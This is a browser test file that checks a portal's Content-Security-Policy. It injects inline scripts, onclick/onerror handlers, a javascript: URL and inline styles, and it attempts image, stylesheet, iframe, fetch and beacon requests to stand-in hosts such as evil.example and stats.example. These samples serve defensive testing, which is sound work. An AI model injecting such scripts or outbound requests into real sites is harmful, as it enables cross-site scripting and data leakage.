// The Content-Security-Policy of the built portal, enforced by Chromium:
// whatever slips into a page cannot run, load from elsewhere, or phone
// home, and every violation is reported; the search module (WebAssembly,
// allowed by 'wasm-unsafe-eval') still works.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { launch, watchForeignRequests } from './lib.mjs';
import { buildAndServe } from '../fixtures/quality/static-site.mjs';

let site;
let browser;
let context;

before(async () => {
  site = await buildAndServe();
  browser = await launch();
  context = await browser.newContext({ serviceWorkers: 'block' });
  // Runs before any page script (and outside the page's CSP): records
  // every violation the page reports.
  await context.addInitScript(() => {
    window.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) => {
      window.__violations.push({ directive: e.effectiveDirective || e.violatedDirective, blocked: e.blockedURI, sample: e.sample });
    });
  });
});

after(async () => {
  await context?.close();
  await browser?.close();
  site?.stop();
});

async function open(path) {
  const page = await context.newPage();
  const foreign = watchForeignRequests(page, site.url);
  const errors = [];
  page.on('pageerror', (e) => errors.push(String(e)));
  const response = await page.goto(new URL(path, site.url).href);
  assert.equal(response.status(), 200, path);
  return { page, foreign, errors };
}

const violations = (page) => page.evaluate(() => window.__violations.slice());
const settle = (page) => page.waitForTimeout(200);

test('an injected inline script does not run, and the violation is reported', async () => {
  const { page, foreign } = await open('centers/');
  await page.evaluate(() => {
    const s = document.createElement('script');
    s.textContent = 'window.__pwned = 1';
    document.body.appendChild(s);
  });
  await settle(page);
  assert.equal(await page.evaluate(() => window.__pwned), undefined, 'the inline script ran');
  const v = await violations(page);
  assert.ok(v.some((x) => /^script-src/.test(x.directive) && x.blocked === 'inline'), `no script-src violation: ${JSON.stringify(v)}`);
  assert.deepEqual(foreign, []);
  await page.close();
});

test('injected event handlers and javascript: URLs do not run', async () => {
  const { page } = await open('');
  await page.evaluate(() => {
    const b = document.createElement('button');
    b.id = 'x-injected';
    b.setAttribute('onclick', 'window.__pwned = 2');
    b.textContent = 'x';
    document.body.appendChild(b);
    const img = document.createElement('img');
    img.setAttribute('onerror', 'window.__pwned = 3');
    img.src = '/definitely-missing.png';
    document.body.appendChild(img);
    const a = document.createElement('a');
    a.id = 'x-js-link';
    a.href = 'javascript:window.__pwned = 4';
    a.textContent = 'y';
    document.body.appendChild(a);
  });
  await page.click('#x-injected');
  await page.click('#x-js-link');
  await settle(page);
  assert.equal(await page.evaluate(() => window.__pwned), undefined, 'an injected handler or javascript: URL ran');
  const v = await violations(page);
  const directives = v.map((x) => x.directive);
  assert.ok(directives.filter((d) => /^script-src/.test(d)).length >= 2, `violations: ${JSON.stringify(v)}`);
  // (eval cannot be tried from here: Chromium exempts code run through the
  // DevTools protocol from CSP. The policy's lack of 'unsafe-eval' is
  // checked in tests/quality_privacy.rs.)
  await page.close();
});

test('nothing can be loaded from or sent to another host', async () => {
  const { page } = await open('');
  // Requests to other hosts: each must be stopped by the policy before it
  // leaves the browser (Chromium reports them, then fails them as csp).
  const attempts = new Map();
  page.on('request', (r) => {
    if (!r.url().startsWith(site.url)) attempts.set(r.url(), 'started');
  });
  page.on('requestfailed', (r) => {
    if (attempts.has(r.url())) attempts.set(r.url(), r.failure()?.errorText ?? 'failed');
  });
  page.on('response', (r) => {
    if (attempts.has(r.url())) attempts.set(r.url(), `answered ${r.status()}`);
  });
  const outcome = await page.evaluate(async () => {
    const img = new Image();
    img.src = 'https://tracker.example/pixel.png';
    document.body.appendChild(img);
    const style = document.createElement('link');
    style.rel = 'stylesheet';
    style.href = 'https://fonts.example/x.css';
    document.head.appendChild(style);
    const frame = document.createElement('iframe');
    frame.src = 'https://evil.example/';
    document.body.appendChild(frame);
    let fetched = 'sent';
    try {
      await fetch('https://stats.example/collect', { method: 'POST', body: 'x' });
    } catch (e) {
      fetched = 'blocked';
    }
    const beacon = navigator.sendBeacon('https://stats.example/beacon', 'x');
    return { fetched, beacon };
  });
  await settle(page);
  assert.equal(outcome.fetched, 'blocked', 'fetch to another host was not blocked');
  const v = await violations(page);
  for (const d of ['img-src', 'style-src-elem', 'frame-src', 'connect-src']) {
    assert.ok(
      v.some((x) => x.directive === d || (d === 'style-src-elem' && x.directive === 'style-src') || (d === 'frame-src' && x.directive === 'child-src')),
      `no ${d} violation: ${JSON.stringify(v)}`,
    );
  }
  assert.ok(attempts.size >= 2, `expected the image and stylesheet attempts: ${JSON.stringify([...attempts])}`);
  for (const [url, how] of attempts) {
    assert.match(how, /csp/i, `${url} was not stopped by the CSP: ${how}`);
  }
  await page.close();
});

test('inline styles injected into a page are refused too', async () => {
  const { page } = await open('');
  const applied = await page.evaluate(() => {
    const s = document.createElement('style');
    s.textContent = 'body { background: rgb(1, 2, 3) !important; }';
    document.head.appendChild(s);
    return getComputedStyle(document.body).backgroundColor;
  });
  assert.notEqual(applied, 'rgb(1, 2, 3)', 'an injected <style> applied');
  await page.close();
});

test('the search module compiles under the policy (wasm-unsafe-eval) and nothing is violated', async () => {
  const { page, foreign, errors } = await open('search/');
  const compiled = await page.evaluate(async () => {
    const bytes = await (await fetch(new URL('tsunagu_search.wasm', location.href))).arrayBuffer();
    try {
      const { instance } = await WebAssembly.instantiate(bytes, {});
      return Object.keys(instance.exports).length > 0 ? 'ok' : 'no exports';
    } catch (e) {
      return `${e.name}: ${e.message}`;
    }
  });
  assert.equal(compiled, 'ok');
  assert.deepEqual(await violations(page), [], 'the search page itself violates its policy');
  assert.deepEqual(errors, []);
  assert.deepEqual(foreign, []);
  await page.close();
});

test('search returns results under the policy, with no violation', async () => {
  const { page, foreign, errors } = await open('search/?q=' + encodeURIComponent('ひきこもり'));
  await page.waitForFunction(
    () => document.querySelectorAll('#ts-results li a').length > 0 || /できませんでした|問題が起きました/.test(document.getElementById('ts-status')?.textContent ?? ''),
    null,
    { timeout: 20_000 },
  );
  const status = await page.textContent('#ts-status');
  const hits = await page.$$eval('#ts-results li.ts-hit a', (as) => as.length);
  assert.ok(hits > 0, `no results; status: ${status}`);
  assert.deepEqual(await violations(page), []);
  assert.deepEqual(errors, []);
  assert.deepEqual(foreign, []);
  await page.close();
});

test('every page type loads with no CSP violation', async () => {
  for (const path of ['', 'centers/', 'events/', 'categories/', 'areas/', 'pages/', 'search/', 'no-such-page/']) {
    const page = await context.newPage();
    await page.goto(new URL(path, site.url).href);
    await settle(page);
    assert.deepEqual(await violations(page), [], `/${path}`);
    await page.close();
  }
});
